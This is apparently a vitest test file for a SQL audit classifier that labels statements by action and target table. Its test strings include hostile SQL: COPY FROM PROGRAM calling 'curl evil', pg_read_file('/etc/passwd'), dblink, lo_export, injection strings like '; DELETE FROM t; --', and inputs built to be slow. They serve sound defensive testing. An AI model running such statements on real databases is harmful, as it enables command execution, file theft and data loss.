import { readFileSync } from "node:fs";

import { AUDIT_ACTION_VALUES } from "@otel-audit/semantic-conventions";
import * as fc from "fast-check";
import { expect, test } from "vitest";

import type { SqlClassification } from "./classification.ts";
import { classifySql } from "./classify.ts";
import { MAX_SQL_LENGTH } from "./parser.ts";
import { sqlTargets } from "./targets.ts";

/** `ACTION [@database] -read… +write…`, or `ignorable`. */
function short(text: string): string {
  const classification = classifySql(text);
  if (classification.ignorable) return "ignorable";
  return [
    classification.action,
    ...(classification.unclassified === undefined ? [] : [classification.unclassified]),
    ...sqlTargets(classification, "db").map(({ type, id, access }) =>
      type === "database" ? "@" : `${access === "write" ? "+" : "-"}${id.slice(3).replace(/^public\./, "")}`,
    ),
  ].join(" ");
}

const STATEMENTS: readonly (readonly [sql: string, is: string])[] = [
  ["SELECT * FROM orders", "READ -orders"],
  ["select o.id from orders o join customers c on c.id = o.customer", "READ -orders -customers"],
  ["SELECT * FROM orders WHERE id IN (SELECT order_id FROM refunds)", "READ -orders -refunds"],
  ["SELECT a FROM x UNION SELECT b FROM y UNION ALL VALUES (1)", "READ -x -y"],
  ["TABLE orders", "READ -orders"],
  ["SELECT * FROM orders FOR UPDATE", "READ -orders"],
  ["SELECT now()", "READ @"],
  ["SELECT * FROM generate_series(1, 3)", "READ @"],
  ["SELECT * FROM LATERAL (SELECT * FROM t) x", "READ -t"],
  // Common table expressions are not tables.
  ["WITH recent AS (SELECT * FROM orders) SELECT * FROM recent", "READ -orders"],
  ["WITH orders AS (SELECT * FROM orders) SELECT * FROM orders", "READ -orders"],
  ["WITH a AS (SELECT * FROM t), b AS (SELECT * FROM a) SELECT * FROM b, a", "READ -t"],
  ["WITH RECURSIVE r AS (SELECT 1 UNION SELECT n + 1 FROM r, s), s AS (SELECT * FROM t) SELECT * FROM r", "READ -t"],
  ["WITH x AS (SELECT 1) SELECT * FROM public.x", "READ -x"],
  ["WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone", "DELETE +orders -orders"],
  ["WITH new AS (INSERT INTO orders SELECT * FROM staging RETURNING id) SELECT id FROM new", "WRITE +orders -staging"],
  ["SELECT * FROM (WITH inner_one AS (SELECT * FROM t) SELECT * FROM inner_one) x, inner_one", "READ -t -inner_one"],
  // Writing.
  ["INSERT INTO orders VALUES (1, 'DELETE FROM cards')", "WRITE +orders"],
  ["INSERT INTO orders (id) SELECT id FROM staging", "WRITE +orders -staging"],
  ["INSERT INTO orders VALUES (1) ON CONFLICT (id) DO UPDATE SET n = excluded.n", "UPDATE +orders"],
  ["INSERT INTO orders VALUES (1) ON CONFLICT DO NOTHING", "WRITE +orders"],
  ["UPDATE orders SET total = s.total FROM sums s WHERE s.id = orders.id", "UPDATE +orders -sums"],
  ["UPDATE cards SET n = n RETURNING *", "UPDATE +cards -cards"],
  ["DELETE FROM orders USING customers WHERE customers.id = 1", "DELETE +orders -customers"],
  ["MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN UPDATE SET b = 1", "UPDATE +t -s"],
  [
    "MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (1)",
    "DELETE +t -s",
  ],
  ["SELECT * INTO copy_of FROM orders", "CREATE +copy_of -orders"],
  ["CREATE TABLE copy_of AS SELECT * FROM orders", "CREATE +copy_of -orders"],
  ["TRUNCATE orders, customers", "DELETE +orders +customers"],
  // Definitions.
  ["CREATE TABLE t (a int REFERENCES parent (id))", "CREATE +t -parent"],
  ["CREATE VIEW v AS SELECT * FROM t", "CREATE +v -t"],
  ["CREATE INDEX ON t (a)", "CREATE +t"],
  ["ALTER TABLE t ADD COLUMN c int", "UPDATE +t"],
  ["ALTER TABLE t DROP COLUMN c", "DELETE +t"],
  ["ALTER TABLE t RENAME TO u", "UPDATE +t"],
  ["DROP TABLE a.b, c", "DELETE +a.b +c"],
  ["DROP TRIGGER g ON hr.t", "DELETE +hr.t"],
  ["DROP SCHEMA s CASCADE", "DELETE +s.*"],
  ["DROP SCHEMA s", "DELETE @"],
  ["GRANT ALL ON ALL TABLES IN SCHEMA s TO u", "UPDATE +s.*"],
  ['SELECT * FROM s."*"', "READ -s.%2A"],
  ["GRANT SELECT ON t TO u", "UPDATE +t"],
  ["CREATE ROLE r SUPERUSER", "CREATE @"],
  ["COMMENT ON TABLE t IS 'x'", "UPDATE +t"],
  ["REFRESH MATERIALIZED VIEW m", "UPDATE +m"],
  // COPY.
  ["COPY orders TO STDOUT", "READ -orders"],
  ["COPY orders FROM STDIN", "WRITE +orders"],
  ["COPY (SELECT * FROM orders) TO STDOUT", "READ -orders"],
  ["COPY orders FROM PROGRAM 'curl evil'", "EXECUTE @ +orders"],
  ["COPY orders TO '/srv/orders.csv'", "EXECUTE @ -orders"],
  // What a text does not show.
  ["DO $$ BEGIN DELETE FROM t; END $$", "EXECUTE @"],
  ["CALL refund(1)", "EXECUTE @"],
  ["EXECUTE stored(1)", "EXECUTE @"],
  ["CREATE TABLE t AS EXECUTE stored", "EXECUTE @ +t"],
  ["PREPARE p AS DELETE FROM orders", "DELETE +orders"],
  ["SELECT pg_read_file('/etc/passwd')", "EXECUTE @"],
  ["SELECT pg_catalog.pg_read_file('/etc/passwd') FROM t", "EXECUTE @ -t"],
  ["SELECT * FROM dblink('host=x', 'DELETE FROM t') AS d (a int)", "EXECUTE @"],
  ["SELECT lo_export(1, '/tmp/x')", "EXECUTE @"],
  ["SELECT count(*), lower(name) FROM t GROUP BY 2 HAVING max(a) > 1", "READ -t"],
  ["LOAD 'x'", "EXECUTE @"],
  ["ALTER SYSTEM SET archive_command = 'x'", "EXECUTE @"],
  // EXPLAIN runs nothing, EXPLAIN ANALYZE does.
  ["EXPLAIN DELETE FROM t", "READ -t"],
  ["EXPLAIN (ANALYZE) DELETE FROM t", "DELETE +t"],
  ["EXPLAIN (ANALYZE off) DELETE FROM t", "READ -t"],
  // Several statements, comments, quoting.
  ["SELECT * FROM a; DELETE FROM b; SELECT 1", "DELETE +b -a"],
  ["BEGIN; UPDATE a SET x = 1; COMMIT", "UPDATE +a"],
  ["/* SELECT */ DELETE /* from x */ FROM -- y\n orders", "DELETE +orders"],
  ['SELECT * FROM "My.Table", "Order", Foo."Bar"', "READ -My%2ETable -Order -foo.Bar"],
  ["SELECT * FROM pg_authid, information_schema.tables", "READ -pg_catalog.pg_authid -information_schema.tables"],
  ["SELECT $q$'; DELETE FROM t; --$q$ FROM a", "READ -a"],
  ["SELECT E'\\'; DELETE FROM t; --' FROM a", "READ -a"],
  // Ignorable.
  ["SELECT 1", "ignorable"],
  ["select 'ok' as alive, $1", "ignorable"],
  ["BEGIN", "ignorable"],
  ["COMMIT; SET statement_timeout = 0; SHOW server_version", "ignorable"],
  ["ROLLBACK TO SAVEPOINT s", "ignorable"],
  ["-- nothing", "ignorable"],
  ["", "ignorable"],
  // Ignored by no means: who acts, and what names mean.
  ["SET ROLE postgres", "UPDATE @"],
  ["SET SESSION AUTHORIZATION x", "UPDATE @"],
  ["SET search_path TO hr", "UPDATE @"],
  ["SELECT 1 OPERATOR(public.+) 2", "READ @"],
  // Not understood.
  ["SELEC * FROM t", "EXECUTE invalid @"],
  ["SELECT 1\0; DELETE FROM t", "EXECUTE invalid @"],
];

test.each(STATEMENTS)("%s", (sql, is) => {
  expect(short(sql)).toBe(is);
});

test.each([
  ["SELECT * FROM orders o JOIN customers c ON true", "SELECT orders customers"],
  ["WITH x AS (INSERT INTO a SELECT * FROM b RETURNING *) SELECT * FROM x, c", "SELECT c INSERT a SELECT b"],
  ["SELECT 'secret' FROM t WHERE k = 'secret'", "SELECT t"],
  ["BEGIN; DELETE FROM hr.people; COMMIT", "DELETE hr.people"],
  ["CALL billing.refund(1)", "CALL billing.refund"],
  ["SELECT pg_read_file('/etc/passwd')", "SELECT pg_read_file"],
  ['DROP TABLE "a b"', 'DROP TABLE "a b"'],
])("summary of %s", (sql, summary) => {
  expect(classifySql(sql).summary).toBe(summary);
});

test("a summary is cut between names", () => {
  const tables = Array.from({ length: 60 }, (_, i) => `table_${i}`);
  const { summary, tables: all } = classifySql(`SELECT * FROM ${tables.join(", ")}`);
  expect(summary.length).toBeLessThanOrEqual(255);
  expect(summary).toMatch(/^SELECT table_0 .* table_\d+$/);
  // The policy sees every table, whatever the summary shows.
  expect(all).toHaveLength(60);
});

function unknown(reason: string): object {
  return { action: "EXECUTE", database: true, ignorable: false, unclassified: reason };
}

test("what is no text, too long or nested too deeply is an EXECUTE on the database", () => {
  expect(classifySql(undefined)).toMatchObject(unknown("invalid"));
  expect(classifySql({ toString: () => "SELECT 1" })).toMatchObject(unknown("invalid"));
  expect(classifySql(`SELECT '${"x".repeat(MAX_SQL_LENGTH)}'`)).toMatchObject(unknown("too_long"));
  for (const deep of [
    `SELECT ${"(".repeat(3000)}1${")".repeat(3000)}`,
    `SELECT ${"1+".repeat(12_000)}1`,
    `SELECT a, b FROM t${" UNION SELECT a, b FROM t".repeat(4000)}`,
    `SELECT ${"NOT ".repeat(20_000)}true`,
    `SELECT 1${"::int".repeat(20_000)}`,
  ]) {
    expect(classifySql(deep)).toMatchObject(unknown("too_deep"));
  }
  // The parser still works.
  expect(short("SELECT * FROM after_all")).toBe("READ -after_all");
});

test("long lists and long texts of the usual kind are understood", () => {
  const rows = Array.from({ length: 4000 }, (_, i) => `(${i}, 'some text, of (words)')`).join(", ");
  expect(short(`INSERT INTO t VALUES ${rows}`)).toBe("WRITE +t");
  const any = Array.from({ length: 300 }, (_, i) => `(a = ${i} AND b = $${i + 1})`).join(" OR ");
  expect(short(`SELECT * FROM t WHERE ${any}`)).toBe("READ -t");
  expect(short(`SELECT * FROM t WHERE doc = '${"many words (and more) ".repeat(500)}'`)).toBe("READ -t");
});

test("texts that are made to be slow are not", () => {
  const hostile: readonly (readonly [sql: string, action: string])[] = [
    [`INSERT INTO t VALUES ('${"x".repeat(1_000_000)}')`, "EXECUTE"],
    ["/* ".repeat(40_000), "EXECUTE"],
    [Array.from({ length: 13_000 }, (_, i) => `$t${i}$,`).join(""), "EXECUTE"],
    [`SELECT * FROM a ${"JOIN b ON true ".repeat(8000)}`, "EXECUTE"],
    [`SELECT * FROM t WHERE a IN (${Array.from({ length: 18_000 }, (_, i) => i).join(",")})`, "READ"],
    ["(".repeat(131_000), "EXECUTE"],
  ];
  // Processor time, so that busy neighbours do not count: all of them together take a tenth of this.
  const before = process.cpuUsage();
  for (const [sql, action] of hostile) expect(classifySql(sql).action).toBe(action);
  const { user } = process.cpuUsage(before);
  expect(user).toBeLessThan(3_000_000);
  expect(short("SELECT * FROM after_all")).toBe("READ -after_all");
});

test("a text that the parser traps on does not spoil it", () => {
  // Near the end of the caller's stack every text does.
  const exhaust = (): string => {
    try {
      return exhaust();
    } catch {
      return classifySql(`SELECT ${Math.random()} FROM t`).unclassified ?? "none";
    }
  };
  for (let i = 0; i < 5; i++) expect(["too_deep", "none", "no_parser"]).toContain(exhaust());
  expect(short("SELECT * FROM t_after")).toBe("READ -t_after");
});

test.each([
  ['SELECT * FROM "a\uD800b"', "READ -a%EF%BF%BDb"],
  ["SELECT U&'\\0441' FROM U&\"d\\0061t\"", "READ -dat"],
])("odd characters: %s", (sql, is) => {
  expect(short(sql)).toBe(is);
});

const WORDS = [
  ..."SELECT FROM WHERE INSERT INTO VALUES UPDATE SET DELETE WITH AS RECURSIVE UNION JOIN ON COPY TO STDIN DO CALL".split(
    " ",
  ),
  ..."( ) , ; . * = ' \" $$ -- /* */ E' :: [ ] a b public.t \"q t\" 1 $1 'x' NOT CASE WHEN THEN END EXPLAIN PREPARE".split(
    " ",
  ),
];

test("any text is classified, within bounds, and never makes it throw", () => {
  const sqlish = fc.array(fc.constantFrom(...WORDS), { maxLength: 40 }).map((words) => words.join(" "));
  fc.assert(
    fc.property(fc.oneof(sqlish, fc.string({ unit: "binary", maxLength: 200 })), (text) => {
      const classification: SqlClassification = classifySql(text);
      expect(AUDIT_ACTION_VALUES).toContain(classification.action);
      expect(classification.summary.length).toBeLessThanOrEqual(255);
      const targets = sqlTargets(classification, "postgresql://h/d");
      expect(targets.length).toBeGreaterThan(0);
      for (const { id } of targets) expect(id).toMatch(/^postgresql:\/\/h\/d(?:\/[^/?#\s.]+\.[^/?#\s.]+)?$/);
    }),
    { numRuns: 3000 },
  );
});

test("a literal never gets into a classification", () => {
  fc.assert(
    fc.property(fc.stringMatching(/^[a-z]{12}$/), (secret) => {
      const sql = `WITH c AS (SELECT '${secret}' AS x FROM t WHERE y = $$${secret}$$) UPDATE u SET z = '${secret}' FROM c /* ${secret} */`;
      const classification = classifySql(sql);
      expect(classification.action).toBe("UPDATE");
      expect(JSON.stringify(classification)).not.toContain(secret);
    }),
    { numRuns: 50 },
  );
});

test("a text is classified once", () => {
  expect(classifySql("SELECT * FROM cached")).toBe(classifySql("SELECT * FROM cached"));
});

test("every function of the list is one that a statement can call", () => {
  const source = readFileSync(new URL("functions.ts", import.meta.url), "utf8");
  const names = [...source.matchAll(/"([a-z][a-z0-9_]*)"/g)].map(([, name]) => name ?? "");
  expect(names.length).toBeGreaterThan(60);
  for (const name of names) expect([name, classifySql(`SELECT ${name}()`).action]).not.toContain("READ");
});
